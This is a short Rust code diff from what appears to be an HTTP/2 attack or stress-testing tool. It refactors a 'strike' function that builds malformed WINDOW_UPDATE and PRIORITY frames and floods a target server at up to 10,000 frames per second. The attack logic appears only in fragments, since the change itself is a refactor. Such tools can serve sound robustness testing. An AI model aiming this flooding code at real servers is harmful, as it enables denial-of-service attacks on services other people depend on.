@@ -27,7 +27,7 @@ pub(super) const ATTACK: Attack = Attack {
 fn strike(field: &Field) -> Result<Told> {
     let update = |by: u32| http2::frame(WINDOW_UPDATE, 0, 0, &by.to_be_bytes());
     let window = field.window;
-    let mut piece = |n: usize| match window {
+    let piece = |n: usize| match window {
         0 => update(0x7fff_ffff),
         1 if n == 0 => update(0),
         // SETTINGS_INITIAL_WINDOW_SIZE beyond 2^31-1
@@ -36,14 +36,5 @@ fn strike(field: &Field) -> Result<Told> {
         // Depends on the connection; exclusive; weight 256.
         _ => http2::frame(PRIORITY, 0, 2 * n as u32 + 1, &[0x80, 0, 0, 0, 255]),
     };
-    flood(
-        field,
-        &mut Flood {
-            greeting: &http2::opening(&[]),
-            piece: &mut piece,
-            per_second: 10_000,
-            at_most: 10_000,
-            reads: true,
-        },
-    )
+    flood(field, &Flood::of_http2(&[]), piece)
 }
